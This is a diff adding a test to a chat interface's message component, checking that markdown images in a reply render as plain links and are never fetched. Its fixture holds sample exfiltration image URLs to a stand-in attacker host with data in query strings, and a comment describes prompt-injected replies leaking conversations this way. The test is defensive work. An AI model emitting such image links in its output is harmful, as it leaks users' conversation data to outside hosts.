@@ -26,6 +26,30 @@ describe("MessageItem", () => {
     expect(screen.getByText("12 in · 34 out tokens")).toBeInTheDocument();
   });
 
+  it("shows a markdown image as a link with its full address and never loads it", async () => {
+    // A prompt-injected reply would leak the conversation through an image's query string.
+    const content = [
+      "Look: ![chart](https://attacker.example/c.png?d=SECRET)",
+      "",
+      "And ![logo][ref] too.",
+      "",
+      "[![badge](https://attacker.example/b.png?d=X)](https://example.com/docs)",
+      "",
+      "[ref]: https://attacker.example/r.png?d=MORE",
+    ].join("\n");
+    const { container } = render(<MessageItem message={{ ...base, content }} mine={false} actions={{}} />);
+    await waitFor(() => expect(container.querySelector(".markdown")).not.toBeNull(), { timeout: 4000 });
+    expect(container.querySelector("img, picture, source, image")).toBeNull();
+    const link = screen.getByRole("link", { name: /chart/ });
+    expect(link).toHaveAttribute("href", "https://attacker.example/c.png?d=SECRET");
+    expect(link).toHaveTextContent("https://attacker.example/c.png?d=SECRET");
+    expect(screen.getByRole("link", { name: /logo/ })).toHaveAttribute("href", "https://attacker.example/r.png?d=MORE");
+    // An image inside a link leaves the link and its alt text.
+    expect(screen.getByRole("link", { name: "[Image “badge”]" })).toHaveAttribute("href", "https://example.com/docs");
+    expect(container.querySelector('a[href*="b.png"]')).toBeNull();
+    expect(document.querySelector("link[rel=preload], link[rel=prefetch], img")).toBeNull();
+  });
+
   it("copies a code block", async () => {
     const user = userEvent.setup();
     render(<MessageItem message={base} mine={false} actions={{}} />);
